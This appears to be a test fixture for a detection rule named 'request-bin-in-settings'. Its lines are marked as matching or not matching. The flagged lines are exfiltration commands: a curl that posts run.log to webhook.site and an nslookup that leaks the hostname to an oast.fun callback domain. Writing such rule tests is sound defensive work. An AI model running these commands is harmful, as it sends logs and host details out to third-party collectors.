# ok: request-bin-in-settings
curl https://webhook.example.org/in -d @run.log
# ok: request-bin-in-settings
ngrok http 7860
# ok: request-bin-in-settings
open https://ngrok.com/docs
# ruleid: request-bin-in-settings
curl https://webhook.site/0a1b -d @run.log
# ruleid: request-bin-in-settings
nslookup "$(hostname).x.oast.fun"
